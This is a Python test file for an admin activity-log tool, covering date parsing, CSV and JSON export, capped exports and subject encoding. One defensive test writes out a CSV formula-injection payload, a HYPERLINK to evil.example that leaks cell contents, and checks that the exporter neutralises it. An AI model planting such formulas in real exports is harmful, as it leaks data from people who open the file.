"""What somebody asks for, read from an address; and what they take away as a file."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.activity import ActivityBook, Entry
from app.activity.following import Follower
from app.admin.activity.asking import FIELDS, read
from app.admin.activity.export import COLUMNS, csv_lines, json_lines
from app.admin.activity.flow import CAPPED, ActivityDesk
from app.admin.activity.words import called, choices
from app.admin.people.addresses import encoded, person_at, person_path
from app.audit import JournalFiles
from app.core.events import Kind
from app.core.identity import Identity, Person
from app.errors import InvalidRequest, NotFound
from app.issuance import Principal
from app.sessions import Session
from tests.activity.journal import NOW, Journal


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("2026-11-22", (datetime(2026, 11, 22, tzinfo=UTC), datetime(2026, 11, 23, tzinfo=UTC))),
        ("2026-11-22T14:30", (datetime(2026, 11, 22, 14, 30, tzinfo=UTC),) * 2),
        ("2026-11-22T14:30:05+01:00", (datetime(2026, 11, 22, 13, 30, 5, tzinfo=UTC),) * 2),
        ("2026-11-22T14:30:05Z", (datetime(2026, 11, 22, 14, 30, 5, tzinfo=UTC),) * 2),
    ],
)
def test_a_day_is_meant_whole_and_a_time_without_a_zone_is_utc(typed: str, meant: tuple[datetime, datetime]) -> None:
    search = read({"from": typed, "to": typed}).require()
    assert (search.since, search.until) == meant


@pytest.mark.parametrize(
    "typed", ["yesterday", "2026-13-01", "9999-12-31", "0001-01-01T00:00+14:00", "22.11.2026", "1"]
)
def test_what_is_no_time_is_said_so(typed: str) -> None:
    assert "to" in read({"to": typed}).problems
    with pytest.raises(InvalidRequest, match=r"to: expected a day or a time"):
        read({"to": typed}).require()


@given(st.dictionaries(st.sampled_from(FIELDS), st.text(max_size=40)))
def test_whatever_is_typed_is_a_search_or_a_problem_at_its_field(typed: dict[str, str]) -> None:
    asked = read(typed)
    assert set(asked.problems) <= {*typed, "provider", "subject"}
    assert dict(read(asked.texts).texts) == dict(asked.texts)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " =", "\uff1d"])
def test_no_cell_is_a_formula(begin: str) -> None:
    evil = f'{begin}HYPERLINK("http://evil.example/?"&A1,"click")'
    entry = Entry("a" * 64, NOW, "signin.accepted", evil, evil, evil, "", "", "", evil, "", {"x": evil})
    [_, row] = csv.reader(io.StringIO("".join(csv_lines(iter([entry])))))
    assert [cell for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d")] == []
    assert row[COLUMNS.index("name")] == f"'{evil}"


def test_a_line_break_in_a_name_stays_in_its_cell_and_its_line() -> None:
    entry = Entry("a" * 64, NOW, "signin.accepted", "corp", "s", 'a\r\n"b",c\u2028d', "", "", "", "", "", {})
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(iter([entry]))), newline="")))
    assert [row["name"] for row in rows] == [entry.name]
    assert [json.loads(line)["name"] for line in "".join(json_lines(iter([entry]))).splitlines()] == [entry.name]


def principal() -> Principal:
    who = Identity("corp", "s-carla", "carla", frozenset(), NOW, NOW)
    return Principal(Session(who, NOW, NOW + timedelta(hours=1), "handle"), "192.0.2.1", "K7Q2-M9XA")


@pytest.mark.parametrize(("there", "most", "told"), [(5, 5, 5), (6, 5, 5), (0, 5, 0), (7, 100, 7)])
def test_an_export_that_is_cut_off_says_so(
    journal: Journal, book: ActivityBook, there: int, most: int, told: int
) -> None:
    for n in range(there):
        journal.issued("alice", f"ASIA{n}")
    if there:
        follower = Follower(journal.directory, book)
        follower.catch_up(NOW - timedelta(1))
        follower.release()
    desk = ActivityDesk(book, JournalFiles(journal.directory, lambda: journal.now), lambda: NOW, most)
    found = list(desk.export(read({"name": "alice"}), "csv", principal()))
    assert len([one for one in found if isinstance(one, Entry)]) == told
    assert [one for one in found if isinstance(one, str)] == [CAPPED] * (there > most)
    assert json.loads("".join(json_lines(iter([CAPPED])))) == {"notice": CAPPED}


def test_an_export_of_something_that_cannot_be_searched_is_refused_before_it_begins(book: ActivityBook) -> None:
    desk = ActivityDesk(book, _Untouched(), lambda: NOW)
    with pytest.raises(InvalidRequest):
        desk.export(read({"kind": "nothing"}), "csv", principal())


class _Untouched:
    def record(self, event: object) -> None:
        raise AssertionError("nothing was exported")

    def ready(self) -> None: ...


def test_every_kind_of_event_has_a_word_and_a_place_to_be_chosen() -> None:
    assert [kind for kind in Kind if called(kind) == kind] == []
    offered = [kind for _, _, those in choices() for kind, _ in those]
    assert sorted(offered) == sorted(map(str, Kind))
    for family, _, _ in choices():
        assert read({"kind": family}).problems == {}


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=60))
def test_every_subject_has_one_address_without_anything_odd_in_it(subject: str) -> None:
    path = person_path(Person("corp", subject))
    assert set(path.rpartition("/")[2]) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    assert person_at("corp", encoded(subject)) == Person("corp", subject)


@pytest.mark.parametrize("code", ["", "a", "YQ==", "YR", "Y Q", "YQ\n", "ä", "_w", "..", "YWxpY2U%3D"])
def test_what_no_subject_is_written_as_is_nobody(code: str) -> None:
    with pytest.raises(NotFound):
        person_at("corp", code)
